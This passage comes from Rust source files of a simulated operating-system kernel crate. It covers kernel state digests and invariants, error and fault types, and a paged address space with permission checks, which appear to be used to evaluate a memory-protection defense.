        Self::new()
    }
}

impl KernelState {
    /// A fresh state with the default cost model and entropy seed.
    pub fn new() -> KernelState {
        KernelState::with_cost_model(CostModel::default())
    }

    /// A fresh state with a custom cost model.
    pub fn with_cost_model(cost: CostModel) -> KernelState {
        KernelState {
            procs: BTreeMap::new(),
            next_pid: 1,
            channels: BTreeMap::new(),
            next_channel: 0,
            fs: SimFs::new(),
            camera: None,
            display: Display::new(),
            network: NetworkLog::new(),
            clock: VirtualClock::new(),
            mode: TimelineMode::Global,
            timelines: BTreeMap::new(),
            time_ctx: None,
            cost,
            metrics: Metrics::new(),
            entropy: EntropyStream::seeded(ENTROPY_SEED),
            shm: BTreeMap::new(),
            next_shm: 0,
        }
    }

    /// True when no observable state has been created yet: recording
    /// must start here so replays can rebuild genesis from the cost
    /// model alone.
    pub(crate) fn is_pristine(&self) -> bool {
        self.procs.is_empty()
            && self.channels.is_empty()
            && self.shm.is_empty()
            && self.camera.is_none()
            && self.fs.file_count() == 0
            && self.clock.now_ns() == 0
    }

    /// Digest of the complete observable kernel state: clocks and
    /// timelines, counters, every process (address-space fingerprint,
    /// state, filter, fd table), channels, segments and their grant
    /// tables, the file system, and devices. Two states that evolved
    /// through the same transition sequence report the same digest; the
    /// replayer compares this after every re-applied op.
    ///
    /// Large payloads (page data, files, segment bytes, ring traffic)
    /// enter through incrementally-maintained fingerprints, so a digest
    /// is O(processes + segments + channels), not O(memory).
    pub fn digest(&self) -> u64 {
        let mut h = commit::FINGERPRINT_SEED;
        h = commit::mix(h, self.clock.now_ns());
        h = commit::mix(
            h,
            match self.mode {
                TimelineMode::Global => 0,
                TimelineMode::PerProcess => 1,
            },
        );
        h = commit::mix(h, self.time_ctx.summary());
        h = commit::mix(h, self.timelines.len() as u64);
        for (pid, t) in &self.timelines {
            h = commit::mix(commit::mix(h, u64::from(pid.0)), t.now_ns());
        }
        h = commit::mix(h, self.metrics.fingerprint());
        h = commit::mix(h, u64::from(self.next_pid));
        h = commit::mix(h, u64::from(self.next_channel));
        h = commit::mix(h, self.next_shm);
        for (pid, p) in &self.procs {
            h = commit::mix(h, u64::from(pid.0));
            h = commit::mix(h, commit::hash_str(&p.name));
            h = match &p.state {
                ProcessState::Running => commit::mix(h, 1),
                ProcessState::Exited(code) => commit::mix(commit::mix(h, 2), *code as u64),
                ProcessState::Crashed(f) => commit::mix(commit::mix(h, 3), f.summary()),
            };
            h = commit::mix(h, u64::from(p.no_new_privs));
            h = commit::mix(h, p.cpu_ns);
            h = commit::mix(h, p.aspace.fingerprint());
            h = commit::mix(h, p.aspace.page_count() as u64);
            h = commit::mix(h, p.fd_table.len() as u64);
            for (fd, target) in &p.fd_table {
                h = commit::mix(h, u64::from(fd.0));
                h = match target {
                    FdTarget::File { path, offset } => commit::mix(
                        commit::mix(commit::mix(h, 1), commit::hash_str(path)),
                        *offset,
                    ),
                    FdTarget::Device(kind) => {
                        commit::mix(commit::mix(h, 2), commit::hash_str(&format!("{kind:?}")))
                    }
                    FdTarget::Socket { dest } => {
                        commit::mix(commit::mix(h, 3), commit::hash_str(dest))
                    }
                };
            }
            h = match &p.filter {
                None => commit::mix(h, 0),
                Some(f) => {
                    let mut fh = commit::mix(commit::mix(h, 1), u64::from(f.is_locked()));
                    for no in f.allowed_numbers() {
                        fh = commit::mix(fh, no as u64);
                    }
                    fh
                }
            };
        }
        for (id, ch) in &self.channels {
            h = commit::mix(h, u64::from(id.0));
            h = commit::mix(h, ch.fingerprint());
            h = commit::mix(h, u64::from(ch.a.0));
            h = commit::mix(h, u64::from(ch.b.0));
        }
        for (id, seg) in &self.shm {
            h = commit::mix(h, id.0);
            h = commit::mix(h, seg.fingerprint());
            h = commit::mix(h, seg.write_epoch());
            for (pid, perms) in seg.grants() {
                h = commit::mix(commit::mix(h, u64::from(pid.0)), u64::from(perms.bits()));
                h = commit::mix(h, u64::from(seg.is_mapped(pid)));
            }
        }
        h = commit::mix(h, self.fs.fingerprint());
        h = match &self.camera {
            None => commit::mix(h, 0),
            Some(c) => commit::mix(commit::mix(h, 1), c.fingerprint()),
        };
        h = commit::mix(h, self.display.fingerprint());
        commit::mix(h, self.network.fingerprint())
    }

    // ------------------------------------------------------------------
    // Charging and counting (effect-emitting helpers for `step`)
    // ------------------------------------------------------------------

    /// Charges `ns` to `pid`'s timeline (per-process mode) or the global
    /// clock, describing the charge as an [`Effect::Charge`]. Every cost
    /// with a known acting process routes through here.
    pub(crate) fn charge_to(&mut self, fx: &mut Effects, pid: Pid, ns: u64) {
        match self.mode {
            TimelineMode::Global => self.clock.charge(ns),
            TimelineMode::PerProcess => self.timelines.entry(pid).or_default().charge(ns),
        }
        fx.push(Effect::Charge { pid: Some(pid), ns });
    }

    /// Charges `ns` to the current time context (per-process mode) or
    /// the global clock, for costs with no obvious acting process.
    pub(crate) fn charge_ctx(&mut self, fx: &mut Effects, ns: u64) {
        let pid = match (self.mode, self.time_ctx) {
            (TimelineMode::PerProcess, Some(pid)) => {
                self.timelines.entry(pid).or_default().charge(ns);
                Some(pid)
            }
            _ => {
                self.clock.charge(ns);
                None
            }
        };
        fx.push(Effect::Charge { pid, ns });
    }

    /// Moves a metrics counter by `delta`, describing the movement as an
    /// [`Effect::Metric`].
    pub(crate) fn bump(&mut self, fx: &mut Effects, counter: Counter, delta: u64) {
        counter.apply(&mut self.metrics, delta);
        fx.push(Effect::Metric { counter, delta });
    }

    // ------------------------------------------------------------------
    // Pure reads
    // ------------------------------------------------------------------

    /// Immutable access to a process.
    pub fn process(&self, pid: Pid) -> SimResult<&SimProcess> {
        self.procs.get(&pid).ok_or(SimError::NoSuchProcess(pid))
    }

    /// Mutable access to a process (harness-level, not attacker-level).
    pub fn process_mut(&mut self, pid: Pid) -> SimResult<&mut SimProcess> {
        self.procs.get_mut(&pid).ok_or(SimError::NoSuchProcess(pid))
    }

    /// All pids, in spawn order.
    pub fn pids(&self) -> Vec<Pid> {
        self.procs.keys().copied().collect()
    }

    /// Number of processes ever spawned and still tracked.
    pub fn process_count(&self) -> usize {
        self.procs.len()
    }

    /// True when the process exists and is running.
    pub fn is_running(&self, pid: Pid) -> bool {
        self.procs.get(&pid).is_some_and(|p| p.is_running())
    }

    pub(crate) fn require_running(&self, pid: Pid) -> SimResult<()> {
        let p = self.process(pid)?;
        if p.is_running() {
            Ok(())
        } else {
            Err(SimError::ProcessDead(pid))
        }
    }

    /// `pid`'s current virtual time (global clock under `Global` mode).
    pub fn timeline_ns(&self, pid: Pid) -> u64 {
        match self.mode {
            TimelineMode::Global => self.clock.now_ns(),
            TimelineMode::PerProcess => self.timelines.get(&pid).map_or(0, |c| c.now_ns()),
        }
    }

    /// The timeline mode in force.
    pub fn timeline_mode(&self) -> TimelineMode {
        self.mode
    }

    /// End-to-end virtual duration of the run: the global clock under
    /// `Global` mode, the max over all process timelines (and any
    /// residual global charges) under `PerProcess`.
    pub fn makespan_ns(&self) -> u64 {
        match self.mode {
            TimelineMode::Global => self.clock.now_ns(),
            TimelineMode::PerProcess => self
                .timelines
                .values()
                .map(|c| c.now_ns())
                .chain(std::iter::once(self.clock.now_ns()))
                .max()
                .unwrap_or(0),
        }
    }

    /// The global virtual clock. Under [`TimelineMode::PerProcess`] this
    /// stops advancing (charges land on per-process timelines); use
    /// [`KernelState::makespan_ns`] / [`KernelState::timeline_ns`]
    /// instead.
    pub fn clock(&self) -> VirtualClock {
        self.clock
    }

    /// Current virtual time, in nanoseconds: the global clock, or the
    /// current time context's timeline under per-process time. Reading
    /// the clock never charges time — observability code can call this
    /// freely without perturbing deterministic measurements.
    pub fn now_ns(&self) -> u64 {
        match (self.mode, self.time_ctx) {
            (TimelineMode::PerProcess, Some(pid)) => self.timeline_ns(pid),
            _ => self.clock.now_ns(),
        }
    }

    /// The cost model in force.
    pub fn cost_model(&self) -> &CostModel {
        &self.cost
    }

    /// Counter snapshot.
    pub fn metrics(&self) -> Metrics {
        self.metrics
    }

    /// Sum of per-page write generations over `[addr, addr+len)` in
    /// `pid`'s address space, or `None` if the process is gone, dead, or
    /// the range is (partially) unmapped. See
    /// [`AddressSpace::write_epoch`](crate::mem::AddressSpace::write_epoch);
    /// reading an epoch charges nothing.
    pub fn write_epoch(&self, pid: Pid, addr: Addr, len: u64) -> Option<u64> {
        let p = self.procs.get(&pid)?;
        if !p.is_running() {
            return None;
        }
        p.aspace.write_epoch(addr, len)
    }

    /// True when every page of `[addr, addr+len)` in `pid`'s address
    /// space is already at exactly `perms` — a protection change would be
    /// a no-op. Lets trusted callers skip the call (and its audit trail)
    /// entirely when the permission delta is empty.
    pub fn perms_match(&self, pid: Pid, addr: Addr, len: u64, perms: Perms) -> bool {
        self.procs
            .get(&pid)
            .is_some_and(|p| p.is_running() && p.aspace.perms_match(addr, len, perms))
    }

    /// Inspects a segment (grants, mapping, length), if it exists.
    pub fn shm_segment(&self, id: ShmId) -> Option<&ShmSegment> {
        self.shm.get(&id)
    }

    /// All live segments in id order — lets callers audit the whole
    /// grant table (e.g. "no dead pid holds a view anywhere").
    pub fn shm_segments(&self) -> impl Iterator<Item = (ShmId, &ShmSegment)> {
        self.shm.iter().map(|(id, seg)| (*id, seg))
    }

    /// The filter currently installed on `pid`, if any.
    pub fn filter_of(&self, pid: Pid) -> SimResult<Option<&SyscallFilter>> {
        Ok(self.process(pid)?.filter.as_ref())
    }

    /// Number of pages currently mapped across all processes.
    pub fn total_pages(&self) -> u64 {
        self.procs
            .values()
            .map(|p| p.aspace.mapped_bytes() / PAGE_SIZE)
            .sum()
    }

    // ------------------------------------------------------------------
    // Structural invariants
    // ------------------------------------------------------------------

    /// Asserts the structural invariants every reachable state must
    /// satisfy. [`step`](crate::core::step::step) calls this after every
    /// transition in debug builds; the replay property tests drive it
    /// over arbitrary op sequences.
    ///
    /// These are the invariants that hold *by construction* of the state
    /// machine (as opposed to the whole-trace rules
    /// [`replay::audit`](crate::replay::audit) checks over logs, which
    /// can be violated by forged logs):
    ///
    /// * map keys agree with the identity stored in the value, and every
    ///   minted id is below its high-water counter;
    /// * per-process timelines exist only under per-process time;
    /// * a segment is only mapped by pids that hold a grant on it, and
    ///   every grant names a tracked process (reaping purges views).
    ///
    /// # Panics
    ///
    /// Panics on any violation — reaching one means the state machine
    /// itself is broken, not the workload.
    pub fn check_invariants(&self) {
        for (pid, p) in &self.procs {
            assert_eq!(*pid, p.pid, "process map key disagrees with pid");
            assert!(pid.0 < self.next_pid, "pid {pid} at/above next_pid");
        }
        for id in self.channels.keys() {
            assert!(id.0 < self.next_channel, "channel {id} at/above counter");
        }
        if self.mode == TimelineMode::Global {
            assert!(
                self.timelines.is_empty(),
                "per-process timelines exist under the global clock"
            );
        }
        for (id, seg) in &self.shm {
            assert!(id.0 < self.next_shm, "segment {id} at/above counter");
            for (pid, _) in seg.grants() {
                assert!(
                    self.procs.contains_key(&pid),
                    "grant on {id} held by untracked {pid}"
                );
            }
            for pid in &seg.mapped {
                assert!(
                    seg.grants.contains_key(pid),
                    "{pid} maps {id} without a grant"
                );
            }
        }
    }
}
