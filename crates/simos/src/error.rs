//! Error types for the simulated OS.
//!
//! The substrate distinguishes three failure layers, mirroring Linux:
//!
//! * [`Errno`] — a syscall failed in an ordinary, recoverable way
//!   (`ENOENT`, `EBADF`, ...). The process keeps running.
//! * [`Fault`] — the process performed an illegal memory access (or was
//!   killed by the seccomp filter). The kernel marks it crashed, exactly
//!   like a `SIGSEGV`/`SIGSYS` delivery with default disposition.
//! * [`SimError`] — the *simulation* was misused (unknown pid, dead
//!   process, unknown channel). These indicate harness bugs, not simulated
//!   program behaviour.

use crate::mem::Addr;
use crate::process::Pid;
use crate::syscall::SyscallNo;
use std::fmt;

/// POSIX-style error numbers returned by failed syscalls.
///
/// Only the values the simulated frameworks actually produce are modeled.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[allow(missing_docs)]
pub enum Errno {
    /// No such file or directory.
    Enoent,
    /// Bad file descriptor.
    Ebadf,
    /// Permission denied.
    Eacces,
    /// Invalid argument.
    Einval,
    /// Operation not permitted (e.g. locked filter reconfiguration).
    Eperm,
    /// Resource temporarily unavailable (e.g. empty ring buffer).
    Eagain,
    /// No space left (ring buffer full, fs quota).
    Enospc,
    /// Function not implemented on this device/fd.
    Enosys,
}

impl fmt::Display for Errno {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Errno::Enoent => "ENOENT",
            Errno::Ebadf => "EBADF",
            Errno::Eacces => "EACCES",
            Errno::Einval => "EINVAL",
            Errno::Eperm => "EPERM",
            Errno::Eagain => "EAGAIN",
            Errno::Enospc => "ENOSPC",
            Errno::Enosys => "ENOSYS",
        };
        f.write_str(name)
    }
}

impl std::error::Error for Errno {}

/// Why a process was forcibly terminated.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FaultKind {
    /// Access to an unmapped address (classic wild pointer).
    Unmapped,
    /// Access violating page permissions (e.g. write to read-only page).
    ///
    /// This is the fault FreePart's temporal permissions are designed to
    /// induce when an exploit writes protected data.
    Protection,
    /// The seccomp-style filter rejected a syscall (`SIGSYS`).
    SyscallDenied(SyscallNo),
    /// The process deliberately aborted (e.g. a DoS payload).
    Abort,
}

impl fmt::Display for FaultKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FaultKind::Unmapped => write!(f, "segfault (unmapped)"),
            FaultKind::Protection => write!(f, "segfault (protection)"),
            FaultKind::SyscallDenied(no) => write!(f, "SIGSYS (denied syscall {no:?})"),
            FaultKind::Abort => write!(f, "abort"),
        }
    }
}

/// A delivered fatal fault: which process died, where, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fault {
    /// The faulting process.
    pub pid: Pid,
    /// Fault classification.
    pub kind: FaultKind,
    /// Faulting address, when the fault is memory-related.
    pub addr: Option<Addr>,
}

impl fmt::Display for Fault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "process {} killed: {}", self.pid, self.kind)?;
        if let Some(a) = self.addr {
            write!(f, " at {a}")?;
        }
        Ok(())
    }
}

impl std::error::Error for Fault {}

/// Top-level error type for all kernel entry points.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SimError {
    /// A syscall returned an errno; the process continues.
    Errno(Errno),
    /// The process crashed; it is now [`ProcessState::Crashed`].
    ///
    /// [`ProcessState::Crashed`]: crate::process::ProcessState::Crashed
    Fault(Fault),
    /// The pid does not exist.
    NoSuchProcess(Pid),
    /// The target process is not running (crashed or exited).
    ProcessDead(Pid),
    /// The IPC channel id does not exist or the caller is not an endpoint.
    BadChannel,
}

impl SimError {
    /// Returns the contained fault, if this error is a crash.
    pub fn as_fault(&self) -> Option<&Fault> {
        match self {
            SimError::Fault(f) => Some(f),
            _ => None,
        }
    }

    /// True when the error is a process crash (segfault / SIGSYS / abort).
    pub fn is_fault(&self) -> bool {
        matches!(self, SimError::Fault(_))
    }
}

impl fmt::Display for SimError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SimError::Errno(e) => write!(f, "syscall failed: {e}"),
            SimError::Fault(fault) => fault.fmt(f),
            SimError::NoSuchProcess(pid) => write!(f, "no such process: {pid}"),
            SimError::ProcessDead(pid) => write!(f, "process not running: {pid}"),
            SimError::BadChannel => f.write_str("bad ipc channel"),
        }
    }
}

impl std::error::Error for SimError {}

impl From<Errno> for SimError {
    fn from(e: Errno) -> Self {
        SimError::Errno(e)
    }
}

impl From<Fault> for SimError {
    fn from(f: Fault) -> Self {
        SimError::Fault(f)
    }
}

/// Convenience alias used across the substrate.
pub type SimResult<T> = Result<T, SimError>;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn errno_display_matches_posix_names() {
        assert_eq!(Errno::Enoent.to_string(), "ENOENT");
        assert_eq!(Errno::Eperm.to_string(), "EPERM");
    }

    #[test]
    fn fault_display_includes_pid_and_kind() {
        let f = Fault {
            pid: Pid(3),
            kind: FaultKind::Protection,
            addr: Some(Addr(0x1000)),
        };
        let s = f.to_string();
        assert!(s.contains("process 3"), "{s}");
        assert!(s.contains("protection"), "{s}");
    }

    #[test]
    fn sim_error_fault_accessors() {
        let f = Fault {
            pid: Pid(1),
            kind: FaultKind::Abort,
            addr: None,
        };
        let e = SimError::from(f.clone());
        assert!(e.is_fault());
        assert_eq!(e.as_fault(), Some(&f));
        assert!(!SimError::from(Errno::Einval).is_fault());
    }
}
