//! Per-process virtual memory: pages, permissions, and `mprotect`.
//!
//! Each [`AddressSpace`] is a sparse map of 4 KiB pages, each carrying an
//! independent [`Perms`] word. All loads and stores are mediated here; a
//! permission miss produces the [`FaultKind`]
//! that the kernel turns into a process crash — this is the mechanism
//! FreePart's temporal read-only enforcement leans on.
//!
//! Addresses are process-virtual: the same numeric address in two address
//! spaces names unrelated storage, which is precisely the isolation
//! property cross-process exploits run into.

use crate::commit::{fold_bytes, mix, FINGERPRINT_SEED};
use crate::error::FaultKind;
use std::collections::BTreeMap;
use std::fmt;

/// Size of a simulated page in bytes (matches x86-64 Linux).
pub const PAGE_SIZE: u64 = 4096;

/// Base of the simulated heap in every address space.
const HEAP_BASE: u64 = 0x1000_0000;

/// A process-virtual address.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Addr(pub u64);

impl Addr {
    /// The base address of the page containing this address.
    pub fn page_base(self) -> u64 {
        self.0 & !(PAGE_SIZE - 1)
    }

    /// Byte offset within the containing page.
    pub fn page_offset(self) -> u64 {
        self.0 & (PAGE_SIZE - 1)
    }

    /// This address advanced by `n` bytes.
    pub fn offset(self, n: u64) -> Addr {
        Addr(self.0 + n)
    }
}

impl fmt::Display for Addr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:#x}", self.0)
    }
}

/// Page permissions, a miniature `PROT_*` word.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Perms(u8);

impl Perms {
    /// No access at all (`PROT_NONE`).
    pub const NONE: Perms = Perms(0);
    /// Read-only.
    pub const R: Perms = Perms(0b001);
    /// Write-only (rarely used, but expressible).
    pub const W: Perms = Perms(0b010);
    /// Execute-only.
    pub const X: Perms = Perms(0b100);
    /// Read + write — the default for data pages.
    pub const RW: Perms = Perms(0b011);
    /// Read + execute — code pages.
    pub const RX: Perms = Perms(0b101);
    /// Read + write + execute (what a code-rewriting exploit needs).
    pub const RWX: Perms = Perms(0b111);

    /// True if reads are allowed.
    pub fn readable(self) -> bool {
        self.0 & 1 != 0
    }

    /// True if writes are allowed.
    pub fn writable(self) -> bool {
        self.0 & 2 != 0
    }

    /// True if execution is allowed.
    pub fn executable(self) -> bool {
        self.0 & 4 != 0
    }

    /// Union of two permission words.
    pub fn union(self, other: Perms) -> Perms {
        Perms(self.0 | other.0)
    }

    /// True when `self` allows everything `needed` requires.
    pub fn allows(self, needed: Perms) -> bool {
        self.0 & needed.0 == needed.0
    }

    /// The raw permission bits (`r = 1`, `w = 2`, `x = 4`), for hashing
    /// and compact serialization.
    pub fn bits(self) -> u8 {
        self.0
    }
}

impl fmt::Display for Perms {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}{}{}",
            if self.readable() { 'r' } else { '-' },
            if self.writable() { 'w' } else { '-' },
            if self.executable() { 'x' } else { '-' },
        )
    }
}

/// One 4 KiB page: backing bytes plus its protection word and a
/// write-generation counter (the soft-dirty bit of this simulation:
/// incremental snapshots compare generations across an interval to
/// prove a payload unchanged without reading it).
#[derive(Clone)]
struct Page {
    perms: Perms,
    data: Vec<u8>,
    writes: u64,
}

impl Page {
    fn new(perms: Perms) -> Page {
        Page {
            perms,
            data: vec![0; PAGE_SIZE as usize],
            writes: 0,
        }
    }
}

/// Outcome of a raw memory access attempt.
pub(crate) type AccessResult<T> = Result<T, FaultKind>;

/// A sparse, paged, per-process address space with a bump allocator.
///
/// # Example
///
/// ```
/// use freepart_simos::{AddressSpace, Perms};
///
/// let mut asp = AddressSpace::new();
/// let a = asp.alloc(100, Perms::RW);
/// asp.write(a, b"abc").unwrap();
/// assert_eq!(asp.read(a, 3).unwrap(), b"abc");
/// ```
#[derive(Clone)]
pub struct AddressSpace {
    pages: BTreeMap<u64, Page>,
    brk: u64,
    /// Incrementally-maintained mutation fingerprint: every mutating
    /// operation folds an op tag plus its arguments in, so two address
    /// spaces built by the same mutation sequence hash identically
    /// without walking page contents. Feeds `KernelState::digest`.
    fp: u64,
}

impl Default for AddressSpace {
    fn default() -> Self {
        Self::new()
    }
}

impl AddressSpace {
    /// Creates an empty address space with the heap cursor at its base.
    pub fn new() -> AddressSpace {
        AddressSpace {
            pages: BTreeMap::new(),
            brk: HEAP_BASE,
            fp: FINGERPRINT_SEED,
        }
    }

    /// The mutation fingerprint (see the field docs on `fp`). Two address
    /// spaces that underwent the same mutation sequence report the same
    /// fingerprint; any divergence in writes, allocations, unmaps, or
    /// protection changes separates them.
    pub fn fingerprint(&self) -> u64 {
        self.fp
    }

    /// Allocates `len` bytes of fresh zeroed memory with permissions
    /// `perms`, returning the base address. Allocations are page-aligned
    /// and never reuse addresses (a monotone bump allocator keeps
    /// addresses stable and unambiguous for the whole simulation).
    ///
    /// # Panics
    ///
    /// Panics if `len` is zero: a zero-sized mapping has no meaningful
    /// address and indicates a harness bug.
    pub fn alloc(&mut self, len: u64, perms: Perms) -> Addr {
        assert!(len > 0, "zero-length allocation");
        let base = self.brk;
        let pages = len.div_ceil(PAGE_SIZE);
        for i in 0..pages {
            self.pages.insert(base + i * PAGE_SIZE, Page::new(perms));
        }
        self.brk = base + pages * PAGE_SIZE;
        self.fp = mix(
            mix(mix(mix(self.fp, 1), base), pages),
            u64::from(perms.bits()),
        );
        Addr(base)
    }

    /// Unmaps the pages covering `[addr, addr+len)`. Unmapped holes are
    /// ignored (like `munmap`).
    pub fn unmap(&mut self, addr: Addr, len: u64) {
        let first = addr.page_base();
        let last = Addr(addr.0 + len.saturating_sub(1)).page_base();
        let mut removed = 0u64;
        let mut p = first;
        while p <= last {
            if self.pages.remove(&p).is_some() {
                removed += 1;
            }
            p += PAGE_SIZE;
        }
        if removed > 0 {
            self.fp = mix(mix(mix(self.fp, 2), first), removed);
        }
    }

    /// Changes the protection of every page covering `[addr, addr+len)`.
    ///
    /// Returns the number of pages whose permissions actually *changed*
    /// (the differential page delta — already-correct pages are free, so
    /// a no-op transition reports zero), or a fault if any page in the
    /// range is unmapped (Linux returns `ENOMEM`; we treat it as a
    /// harness fault because our callers always pass mapped ranges).
    pub fn protect(&mut self, addr: Addr, len: u64, perms: Perms) -> AccessResult<u64> {
        let first = addr.page_base();
        let last = Addr(addr.0 + len.saturating_sub(1)).page_base();
        // Validate first so the operation is atomic.
        let mut p = first;
        while p <= last {
            if !self.pages.contains_key(&p) {
                return Err(FaultKind::Unmapped);
            }
            p += PAGE_SIZE;
        }
        let mut changed = 0;
        let mut p = first;
        while p <= last {
            let page = self.pages.get_mut(&p).expect("validated above");
            if page.perms != perms {
                page.perms = perms;
                changed += 1;
            }
            p += PAGE_SIZE;
        }
        if changed > 0 {
            self.fp = mix(
                mix(mix(mix(self.fp, 3), first), changed),
                u64::from(perms.bits()),
            );
        }
        Ok(changed)
    }

    /// True when every page covering `[addr, addr+len)` is mapped and
    /// already at exactly `perms` — i.e. a [`AddressSpace::protect`] call
    /// with these arguments would change nothing.
    pub fn perms_match(&self, addr: Addr, len: u64, perms: Perms) -> bool {
        let first = addr.page_base();
        let last = Addr(addr.0 + len.saturating_sub(1)).page_base();
        let mut p = first;
        while p <= last {
            match self.pages.get(&p) {
                Some(page) if page.perms == perms => {}
                _ => return false,
            }
            p += PAGE_SIZE;
        }
        true
    }

    /// Current permissions of the page containing `addr`, if mapped.
    pub fn perms_at(&self, addr: Addr) -> Option<Perms> {
        self.pages.get(&addr.page_base()).map(|p| p.perms)
    }

    /// True when the full range is mapped.
    pub fn is_mapped(&self, addr: Addr, len: u64) -> bool {
        if len == 0 {
            return self.pages.contains_key(&addr.page_base());
        }
        let first = addr.page_base();
        let last = Addr(addr.0 + len - 1).page_base();
        let mut p = first;
        while p <= last {
            if !self.pages.contains_key(&p) {
                return false;
            }
            p += PAGE_SIZE;
        }
        true
    }

    /// Reads `len` bytes starting at `addr`, checking read permission on
    /// every touched page.
    ///
    /// # Errors
    ///
    /// [`FaultKind::Unmapped`] if any page is missing,
    /// [`FaultKind::Protection`] if any page is not readable.
    pub fn read(&self, addr: Addr, len: u64) -> AccessResult<Vec<u8>> {
        self.check(addr, len, Perms::R)?;
        let mut out = Vec::with_capacity(len as usize);
        let mut cur = addr;
        let mut remaining = len;
        while remaining > 0 {
            let page = self.pages.get(&cur.page_base()).expect("checked");
            let off = cur.page_offset() as usize;
            let take = remaining.min(PAGE_SIZE - cur.page_offset()) as usize;
            out.extend_from_slice(&page.data[off..off + take]);
            cur = cur.offset(take as u64);
            remaining -= take as u64;
        }
        Ok(out)
    }

    /// Writes `bytes` starting at `addr`, checking write permission on
    /// every touched page.
    ///
    /// # Errors
    ///
    /// Same fault model as [`AddressSpace::read`]. On error nothing is
    /// written (the check precedes the copy).
    pub fn write(&mut self, addr: Addr, bytes: &[u8]) -> AccessResult<()> {
        self.check(addr, bytes.len() as u64, Perms::W)?;
        self.fp = fold_bytes(mix(mix(self.fp, 4), addr.0), bytes);
        let mut cur = addr;
        let mut src = bytes;
        while !src.is_empty() {
            let base = cur.page_base();
            let off = cur.page_offset() as usize;
            let take = src.len().min((PAGE_SIZE - cur.page_offset()) as usize);
            let page = self.pages.get_mut(&base).expect("checked");
            page.data[off..off + take].copy_from_slice(&src[..take]);
            page.writes += 1;
            cur = cur.offset(take as u64);
            src = &src[take..];
        }
        Ok(())
    }

    /// Simulates an instruction fetch: checks execute permission at `addr`.
    pub fn fetch(&self, addr: Addr) -> AccessResult<()> {
        self.check(addr, 1, Perms::X)
    }

    /// Sum of the per-page write generations over `[addr, addr+len)`,
    /// or `None` if any page in the range is unmapped. A page whose
    /// permissions stayed read-only over an interval trivially keeps its
    /// generation; the counter also catches writable-but-unwritten pages,
    /// so an unchanged sum proves the range's bytes did not change (the
    /// bump allocator never reuses addresses, ruling out remap aliasing).
    pub fn write_epoch(&self, addr: Addr, len: u64) -> Option<u64> {
        let first = addr.page_base();
        let last = Addr(addr.0 + len.saturating_sub(1)).page_base();
        let mut sum = 0u64;
        let mut p = first;
        while p <= last {
            sum += self.pages.get(&p)?.writes;
            p += PAGE_SIZE;
        }
        Some(sum)
    }

    /// Number of mapped pages.
    pub fn page_count(&self) -> usize {
        self.pages.len()
    }

    /// Total mapped bytes.
    pub fn mapped_bytes(&self) -> u64 {
        self.pages.len() as u64 * PAGE_SIZE
    }

    fn check(&self, addr: Addr, len: u64, needed: Perms) -> AccessResult<()> {
        if len == 0 {
            return Ok(());
        }
        let first = addr.page_base();
        let last = Addr(addr.0 + len - 1).page_base();
        let mut p = first;
        while p <= last {
            match self.pages.get(&p) {
                None => return Err(FaultKind::Unmapped),
                Some(page) if !page.perms.allows(needed) => {
                    return Err(FaultKind::Protection);
                }
                Some(_) => {}
            }
            p += PAGE_SIZE;
        }
        Ok(())
    }
}

impl fmt::Debug for AddressSpace {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AddressSpace")
            .field("pages", &self.pages.len())
            .field("brk", &format_args!("{:#x}", self.brk))
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn alloc_is_page_aligned_and_monotone() {
        let mut asp = AddressSpace::new();
        let a = asp.alloc(1, Perms::RW);
        let b = asp.alloc(PAGE_SIZE + 1, Perms::RW);
        assert_eq!(a.page_offset(), 0);
        assert_eq!(b.page_offset(), 0);
        assert!(b.0 >= a.0 + PAGE_SIZE);
        let c = asp.alloc(1, Perms::RW);
        assert!(c.0 >= b.0 + 2 * PAGE_SIZE, "two pages for PAGE_SIZE+1");
    }

    #[test]
    fn read_write_roundtrip_across_page_boundary() {
        let mut asp = AddressSpace::new();
        let base = asp.alloc(2 * PAGE_SIZE, Perms::RW);
        let addr = base.offset(PAGE_SIZE - 3);
        let data = b"span-the-boundary";
        asp.write(addr, data).unwrap();
        assert_eq!(asp.read(addr, data.len() as u64).unwrap(), data);
    }

    #[test]
    fn unmapped_access_faults() {
        let asp = AddressSpace::new();
        assert_eq!(asp.read(Addr(0xdead_0000), 4), Err(FaultKind::Unmapped));
    }

    #[test]
    fn protection_fault_on_readonly_write() {
        let mut asp = AddressSpace::new();
        let a = asp.alloc(64, Perms::RW);
        asp.write(a, b"ok").unwrap();
        asp.protect(a, 64, Perms::R).unwrap();
        assert_eq!(asp.write(a, b"no"), Err(FaultKind::Protection));
        // Reads still fine; data intact.
        assert_eq!(&asp.read(a, 2).unwrap(), b"ok");
    }

    #[test]
    fn protect_is_atomic_over_partially_unmapped_range() {
        let mut asp = AddressSpace::new();
        let a = asp.alloc(PAGE_SIZE, Perms::RW);
        // Range extends past the single mapped page.
        assert_eq!(
            asp.protect(a, 2 * PAGE_SIZE, Perms::R),
            Err(FaultKind::Unmapped)
        );
        // Mapped page unchanged.
        assert_eq!(asp.perms_at(a), Some(Perms::RW));
    }

    #[test]
    fn fetch_requires_execute() {
        let mut asp = AddressSpace::new();
        let data = asp.alloc(16, Perms::RW);
        let code = asp.alloc(16, Perms::RX);
        assert_eq!(asp.fetch(data), Err(FaultKind::Protection));
        assert!(asp.fetch(code).is_ok());
    }

    #[test]
    fn write_to_execute_only_page_faults() {
        let mut asp = AddressSpace::new();
        let code = asp.alloc(16, Perms::RX);
